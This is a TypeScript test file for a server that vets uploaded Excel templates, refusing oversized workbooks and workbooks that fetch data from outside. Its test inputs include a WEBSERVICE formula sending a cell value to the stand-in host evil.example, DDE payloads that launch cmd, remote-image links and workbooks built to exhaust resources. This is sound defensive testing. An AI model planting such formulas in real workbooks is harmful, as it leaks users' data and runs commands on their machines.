/** Workbooks that the server fills itself: those that would hold it up or ask outside are refused with the place, ordinary forms are taken. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { openXlsx, saveXlsx, writeXlsx } from 'hucre/xlsx'
import { archive, bytes } from '../../../test/archive.ts'
import { png } from '../../../test/uploads.ts'
import { Refusal } from '../../base/refused.ts'
import { readDocument } from './reading.server.ts'

type More = { sheet?: string; /** Inside the workbook. */ book?: string; bookRels?: string; sheetRels?: string; parts?: Record<string, string> }
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships', MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
const rels = (inside: string) => `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inside}</Relationships>`
const fields = '<row r="1"><c r="A1" t="inlineStr"><is><t>{{zeitraum}}</t></is></c><c r="B1" t="inlineStr"><is><t>{{consultations.all}}</t></is></c></row>'
/** A form with more in it, as a hand could write it. */
const form = ({ sheet = '', book = '', bookRels = '', sheetRels = '', parts = {} }: More = {}): Buffer => archive(Object.entries({
  '[Content_Types].xml': '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>',
  '_rels/.rels': rels(`<Relationship Id="rId1" Type="${R}/officeDocument" Target="xl/workbook.xml"/>`),
  'xl/workbook.xml': `<workbook ${MAIN} xmlns:r="${R}"><sheets><sheet name="Meldung" sheetId="1" r:id="rId1"/></sheets>${book}</workbook>`,
  'xl/_rels/workbook.xml.rels': rels(`<Relationship Id="rId1" Type="${R}/worksheet" Target="worksheets/sheet1.xml"/>${bookRels}`),
  'xl/worksheets/sheet1.xml': `<worksheet ${MAIN} xmlns:r="${R}"><sheetData>${fields}${sheet}</sheetData></worksheet>`,
  ...(sheetRels ? { 'xl/worksheets/_rels/sheet1.xml.rels': rels(sheetRels) } : {}), ...parts,
}).map(([name, text]) => ({ name, body: bytes(text) })))
const told = (body: Buffer, isFilled = true): Promise<string> => readDocument([{ name: 'formular.xlsx', body }], { isFilled }).then(() => 'angenommen', (error: unknown) => { assert.ok(error instanceof Refusal, String(error)); return error.message })
const formula = (text: string): More => ({ sheet: `<row r="2"><c r="C2"><f>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</f><v>0</v></c></row>` })

test('an ordinary form with formulas, links, notes, choices, a table and a picture is taken', async () => {
  const rows = [['Meldung', '{{zeitraum}}'], ['Beratungen', '{{consultations.all}}'], ['doppelt', null], ['Amt', 'hier'], ...Array.from({ length: 40 }, (_, at) => [`Zeile ${at}`, at])]
  const written = await writeXlsx({ sheets: [
    { name: 'Meldung & Nachweis', rows, cells: new Map([['2,1', { value: null, formula: 'B2*2+SUM(Nachweis!A1:B9)', formulaResult: 0 }], ['3,1', { value: 'hier', hyperlink: { target: 'https://example.org/hyperlink?a=1&b=2' }, comment: { author: 'Amt', text: 'Bitte <ausfüllen> & senden' } }]]), dataValidations: [{ type: 'list', values: ['ja', 'nein'], range: 'C1:C9' }], images: [{ data: new Uint8Array(await png()), type: 'png', anchor: { from: { row: 5, col: 4 } } }] },
    { name: 'Nachweis', rows: [['Jahr', '2024'], [1, 2], [3, 4]], tables: [{ name: 'Tabelle1', range: 'A1:B3', columns: [{ name: 'Jahr' }, { name: '2024' }] }] },
  ] })
  assert.equal(await told(Buffer.from(written)), 'angenommen')
  assert.equal(await told(Buffer.from(await saveXlsx(await openXlsx(written)))), 'angenommen')
  for (const text of ['SUM(Tabelle1[2024])', 'SUM(Tabelle1[[#This Row],[2024]])+Nachweis!A1', 'IF(B1="[1]Blatt!A1 | WEBSERVICE(","ja","nein")', "'Nachweis 2024 (neu)'!A1*2", 'HYPERLINK("https://example.org","Amt")', "Image!A1+'A|B'!A1"]) assert.equal(await told(form(formula(text))), 'angenommen', text)
  assert.equal(await told(form({ sheet: '<row r="1048576" hidden="1"/>', parts: { 'xl/worksheets/sheet2.xml': `<worksheet ${MAIN}><cols><col min="1" max="16384" width="9"/></cols><sheetData/></worksheet>` } })), 'angenommen')
})

test('a form that spreads too far or unpacks too large is refused with the place, before the server opens it', async () => {
  const wide = Array.from({ length: 20_000 }, (_, at) => `<row r="${at + 2}"><c r="XFD${at + 2}"><v>1</v></c></row>`).join('')
  const cells = (n: number) => `<row>${'<c><v>1</v></c>'.repeat(n)}</row>`
  const most = /höchstens 2\.000 Zeilen und 200 Spalten/
  for (const [sheet, place, why] of [
    [wide, 'Blatt „Meldung“, Zelle XFD2', most], ['<row r="2"><c r="A2001"/></row>', 'Blatt „Meldung“, Zelle A2001', most], ['<row r="3000"><c><v>1</v></c></row>', 'Blatt „Meldung“, Zelle Nr. 1 in Zeile 3000', most], [cells(201), 'Blatt „Meldung“, Zelle Nr. 201 in Zeile 2', most],
    [cells(200).repeat(2000).slice(0, -6) + '</row>', 'Blatt „Meldung“', /ausgepackt über 4 MB/],
  ] as const) {
    const sentence = await told(form({ sheet }))
    assert.ok(sentence.startsWith(`„formular.xlsx“ ist als Vorlage zu groß. ${place}: `), sentence)
    assert.match(sentence, why)
  }
  const corner = `<worksheet ${MAIN}><dimension ref="A1:B2"/><sheetData><row r="2000"><c r="GR2000"/></row></sheetData></worksheet>`
  assert.match(await told(form({ parts: { 'xl/worksheets/sheet2.xml': corner, 'xl/worksheets/sheet3.xml': corner } })), /Alle Blätter zusammen haben über 500\.000 Zellen/)
  assert.match(await told(form({ parts: Object.fromEntries(Array.from({ length: 7 }, (_, at) => [`docProps/${at}.bin`, ' '.repeat(3_000_000)])) })), /ausgepackt über 20 MB/)
  // A long text that stands in many cells costs little in the file.
  const shared = { bookRels: `<Relationship Id="rId9" Type="${R}/sharedStrings" Target="sharedStrings.xml"/>`, parts: { 'xl/sharedStrings.xml': `<sst ${MAIN}><si><t>${'x'.repeat(100_000)}</t></si></sst>` } }
  assert.match(await told(form({ ...shared, sheet: `<row r="2">${'<c t="s"><v>0</v></c>'.repeat(150)}</row>` })), /über 10\.000\.000 Zeichen/)
  assert.match(await told(form({ bookRels: `<Relationship Id="rId1" Type="${R}/worksheet" Target="sheet.vml"/>`, parts: { 'xl/sheet.vml': `<worksheet ${MAIN}><sheetData>${wide}</sheetData></worksheet>` } })), /beschädigt und lässt sich nicht lesen/)
  assert.equal(await told(form({ sheet: wide }), false), 'angenommen', 'kept in a case it is never opened')
})

test('a form that asks outside is refused with the place: other workbooks, connections, programs, the net', async () => {
  const outside = /Hier werden Werte von außerhalb geholt/
  for (const text of ['WEBSERVICE("https://evil.example/?n="&B1)', '_xlfn.WEBSERVICE(A1)', '_xlfn.MAP(A1:A3,_xleta.WEBSERVICE)', '[1]X!A1', "SUM(A1,'[1]Ein Blatt'!A1:B2)", '[1]!Name', '[mappe.xlsx]X!A1', "'C:\\x\\[mappe.xlsx]X'!A1", "cmd|'/C calc'!A0", '_xlfn.IMAGE("https://evil.example")', 'RTD("x",,"y")', 'CUBEVALUE("x","y")', 'IF(A1="a""b",WEBSERVICE(A2),"")']) {
    const sentence = await told(form(formula(text)))
    assert.ok(sentence.startsWith('„formular.xlsx“, Blatt „Meldung“, Zelle C2: '), `${text}: ${sentence}`)
    assert.match(sentence, outside)
  }
  const external = (type: string, target: string, mode = ' TargetMode="External"') => `<Relationship Id="rId7" Type="${R}/${type}" Target="${target}"${mode}/>`
  const more: [string, More][] = [
    ['another workbook whose address ends like a link', { parts: { 'xl/links/a.xml': '<x/>', 'xl/links/_rels/a.xml.rels': rels(external('externalLinkPath', 'https://evil.example/hyperlink')) } }],
    ['the part of a link', { parts: { 'xl/externalLinks/externalLink1.xml': '<x/>' } }],
    ['a link under another name', { bookRels: external('externalLink', 'theme/a.xml', ''), parts: { 'xl/theme/a.xml': '<x/>' } }],
    ['a program (DDE)', { parts: { 'xl/theme/a.xml': `<externalLink ${MAIN}><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>` } }],
    ['connections', { parts: { 'xl/connections.xml': `<connections ${MAIN}/>` } }],
    ['a question to a database', { parts: { 'xl/queryTables/queryTable1.xml': '<x/>' } }],
    ['a picture from the net', { sheetRels: external('image', 'https://evil.example/a.png') }],
    ['a name', { book: '<definedNames><definedName name="n">WEBSERVICE("https://evil.example")</definedName></definedNames>' }],
    ['a rule for what may be entered', { parts: { 'xl/worksheets/sheet2.xml': `<worksheet ${MAIN}><sheetData/><dataValidations><dataValidation><formula1>[1]X!A1</formula1></dataValidation></dataValidations></worksheet>` } }],
    ['a diagram', { parts: { 'xl/charts/chart1.xml': '<c:chart xmlns:c="x"><c:f>[1]X!$A$1</c:f></c:chart>' } }],
  ]
  for (const [what, given] of more) assert.match(await told(form(given)), outside, what)
  assert.equal(await told(form({ sheetRels: external('hyperlink', 'https://example.org/') })), 'angenommen')
})
